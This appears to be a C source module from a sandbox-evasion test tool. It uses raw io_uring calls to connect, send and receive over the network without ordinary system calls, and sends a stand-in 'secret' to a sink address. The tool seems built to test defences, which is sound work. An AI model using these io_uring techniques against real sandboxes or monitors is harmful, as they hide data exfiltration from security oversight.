/* io_uring without its library, and the evasions that use it: no system call is made for what they do. */
#define _GNU_SOURCE
#include "evasion.h"

#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

struct ring {
    int fd;
    unsigned flags;
    unsigned char *queue;
    struct io_uring_sqe *entries;
    struct io_uring_params p;
};

struct ring *ring_open(unsigned flags) {
    struct ring *ring = calloc(1, sizeof *ring);
    ring->flags = ring->p.flags = flags;
    ring->p.sq_thread_idle = 200;
    ring->fd = syscall(SYS_io_uring_setup, 8, &ring->p);
    if (ring->fd < 0) {
        free(ring);
        return NULL;
    }
    /* One mapping holds both queues since Linux 5.4 (IORING_FEAT_SINGLE_MMAP). */
    ring->queue = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
    ring->entries = mmap(NULL, ring->p.sq_entries * sizeof *ring->entries, PROT_READ | PROT_WRITE,
                         MAP_SHARED, ring->fd, IORING_OFF_SQES);
    return ring;
}

void ring_close(struct ring *ring) {
    munmap(ring->queue, 1 << 16);
    munmap(ring->entries, ring->p.sq_entries * sizeof *ring->entries);
    close(ring->fd);
    free(ring);
}

/* Submits one entry and waits for its result. */
static int submit(struct ring *ring, struct io_uring_sqe entry) {
    unsigned *tail = (unsigned *)(ring->queue + ring->p.sq_off.tail);
    unsigned *array = (unsigned *)(ring->queue + ring->p.sq_off.array);
    unsigned *flags = (unsigned *)(ring->queue + ring->p.sq_off.flags);
    unsigned at = *tail & (ring->p.sq_entries - 1);
    ring->entries[at] = entry;
    array[at] = at;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_SEQ_CST);
    unsigned *head = (unsigned *)(ring->queue + ring->p.cq_off.head);
    unsigned *end = (unsigned *)(ring->queue + ring->p.cq_off.tail);
    unsigned wake = IORING_ENTER_GETEVENTS;
    if (__atomic_load_n(flags, __ATOMIC_SEQ_CST) & IORING_SQ_NEED_WAKEUP) wake |= IORING_ENTER_SQ_WAKEUP;
    unsigned count = ring->flags & IORING_SETUP_SQPOLL ? 0 : 1;
    while (*head == __atomic_load_n(end, __ATOMIC_ACQUIRE)) {
        if (syscall(SYS_io_uring_enter, ring->fd, count, 1, wake, NULL, 0) < 0 && errno != EINTR) return -errno;
        count = 0;
    }
    struct io_uring_cqe *done = (struct io_uring_cqe *)(ring->queue + ring->p.cq_off.cqes);
    int result = done[*head & (ring->p.cq_entries - 1)].res;
    __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
    return result;
}

int ring_recv(struct ring *ring, int fd, void *buffer, unsigned size) {
    struct io_uring_sqe entry = {.opcode = IORING_OP_RECV, .fd = fd, .addr = (unsigned long)buffer, .len = size};
    return submit(ring, entry);
}

static void call(struct request *r, struct ring *ring, unsigned how) {
    if (!ring) {
        note(r, "the kernel has no such io_uring: %s", strerror(errno));
        return;
    }
    struct sockaddr_in to = sink(r);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct io_uring_sqe connect = {
        .opcode = IORING_OP_CONNECT, .flags = how, .fd = fd, .addr = (unsigned long)&to, .off = sizeof to};
    int done = submit(ring, connect);
    note(r, "io_uring connect: %s", done < 0 ? strerror(-done) : "done");
    if (done == 0) {
        struct io_uring_sqe send = {
            .opcode = IORING_OP_SEND, .flags = how, .fd = fd, .addr = (unsigned long)"secret", .len = 6};
        done = submit(ring, send);
        note(r, "io_uring send: %s", done < 0 ? strerror(-done) : "done");
    }
    close(fd);
    ring_close(ring);
}

static void ring_connect(struct request *r) { call(r, ring_open(0), 0); }
static void ring_sqpoll(struct request *r) { call(r, ring_open(IORING_SETUP_SQPOLL), 0); }
static void ring_async(struct request *r) { call(r, ring_open(0), IOSQE_ASYNC); }

/* A datagram: no connection is ever made. */
static void ring_send(struct request *r) {
    struct ring *ring = ring_open(0);
    if (!ring) {
        note(r, "the kernel has no io_uring: %s", strerror(errno));
        return;
    }
    struct sockaddr_in to = sink(r);
    struct iovec part = {.iov_base = "secret", .iov_len = 6};
    struct msghdr message = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &part, .msg_iovlen = 1};
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct io_uring_sqe send = {
        .opcode = IORING_OP_SENDMSG, .fd = fd, .addr = (unsigned long)&message, .len = 1};
    int done = submit(ring, send);
    note(r, "io_uring sendmsg: %s", done < 0 ? strerror(-done) : "done");
    close(fd);
    ring_close(ring);
}

const struct evasion rings[] = {
    {"io-uring-connect", ring_connect},
    {"io-uring-send", ring_send},
    {"io-uring-sqpoll", ring_sqpoll},
    {"io-uring-async", ring_async},
    {"io-uring-recv", (void (*)(struct request *))run_payload}, /* the request came by io_uring */
    {0},
};
